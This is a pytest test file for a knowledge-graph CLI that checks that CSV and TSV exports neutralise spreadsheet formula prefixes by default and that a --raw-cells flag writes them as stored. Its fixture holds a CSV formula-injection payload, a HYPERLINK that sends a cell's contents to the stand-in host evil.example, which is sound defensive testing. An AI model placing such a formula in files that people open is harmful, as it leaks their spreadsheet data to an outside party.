"""CSV a spreadsheet opens never runs text from an article as a formula (issue 15, item 10).

Cells starting with "=", "+", "-", "@", a tab or a carriage return used to be
written raw unless `--excel` was given, so a sentence like `=HYPERLINK(...)`
in a news page became a live formula in whoever opened `relations.csv` or a
`kg query --format csv` answer. Now every csv (and tsv) kg writes neutralises
them by default (a leading apostrophe) and `--raw-cells` writes them as stored.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import helpers_store
import pytest
from click.testing import CliRunner

from kg.cli import cli
from kg.config import Config
from kg.store import open_store

#: Every first character that makes Excel or LibreOffice read a cell as a formula.
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"click")'
TITLE = "=1+2 in the title"


def _store(location: str, prefix: str) -> str:
    """The sample store with a formula in a sentence, an article title and an entity name."""
    graphs = helpers_store.sample_graphs()
    for name, triples in graphs.items():
        fixed = []
        for t in triples:
            predicate = t.predicate.value
            if predicate.endswith("#sentence") or predicate.endswith("/sentence"):
                t = type(t)(t.subject, t.predicate, type(t.object)(prefix + PAYLOAD))
            elif predicate.endswith("title"):
                t = type(t)(t.subject, t.predicate, type(t.object)(TITLE))
            fixed.append(t)
        graphs[name] = fixed
    with open_store(Config(store=location), create=True) as store:
        store.apply(graphs)
    return location


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("prefix", PREFIXES, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_exported_csv_cells_never_start_a_formula(
    runner: CliRunner, tmp_path: Path, prefix: str
) -> None:
    store = _store(str(tmp_path / "store"), prefix)
    out = tmp_path / "tables"
    result = runner.invoke(cli, ["--store", store, "export", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    (row,) = _rows(out / "relations.csv")
    assert row["sentence"] == "'" + prefix + PAYLOAD
    assert row["article_title"] == "'" + TITLE
    assert row["confidence"] == "0.85" and row["start"] == "0"  # numbers untouched


@pytest.mark.parametrize("prefix", ["=", "\t"], ids=["eq", "tab"])
def test_raw_cells_writes_them_as_stored(runner: CliRunner, tmp_path: Path, prefix: str) -> None:
    store = _store(str(tmp_path / "store"), prefix)
    out = tmp_path / "tables"
    args = ["--store", store, "export", "--format", "csv", "-o", str(out), "--raw-cells"]
    assert runner.invoke(cli, args).exit_code == 0
    (row,) = _rows(out / "relations.csv")
    assert row["sentence"] == prefix + PAYLOAD
    assert not (out / "relations.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_excel_still_adds_the_byte_order_mark(runner: CliRunner, tmp_path: Path) -> None:
    store = _store(str(tmp_path / "store"), "=")
    out = tmp_path / "tables"
    args = ["--store", store, "export", "--format", "csv", "-o", str(out), "--excel"]
    assert runner.invoke(cli, args).exit_code == 0
    data = (out / "relations.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    (row,) = _rows(out / "relations.csv")
    assert row["sentence"] == "'=" + PAYLOAD


SENTENCES = "SELECT ?s ?start WHERE { ?x kg:sentence ?s ; kg:startOffset ?start }"


@pytest.mark.parametrize("prefix", PREFIXES, ids=["eq", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_query_csv_and_tsv_neutralise_formulas(
    runner: CliRunner, tmp_path: Path, prefix: str, fmt: str
) -> None:
    store = _store(str(tmp_path / "store"), prefix)
    result = runner.invoke(cli, ["--store", store, "query", SENTENCES, "--format", fmt])
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout, fmt)
    assert cells == [("'" + prefix + PAYLOAD, "0")]
    raw = runner.invoke(cli, ["--store", store, "query", SENTENCES, "--format", fmt, "--raw-cells"])
    assert _cells(raw.stdout, fmt) == [(prefix + PAYLOAD, "0")]


def _cells(text: str, fmt: str) -> list[tuple[str, str]]:
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
        return [(s, start) for s, start in rows]
    # W3C TSV writes literals in Turtle syntax: "..." with \t, \r escaped; integers bare.
    out = []
    for line in text.split("\n")[1:]:
        if line:
            sentence, start = line.split("\t")
            value = sentence[1:-1].replace("\\t", "\t").replace("\\r", "\r").replace('\\"', '"')
            out.append((value, start))
    return out


def test_help_documents_the_flag(runner: CliRunner) -> None:
    for command in ("export", "query"):
        text = runner.invoke(cli, [command, "--help"]).output
        assert "--raw-cells" in text and "formula" in text
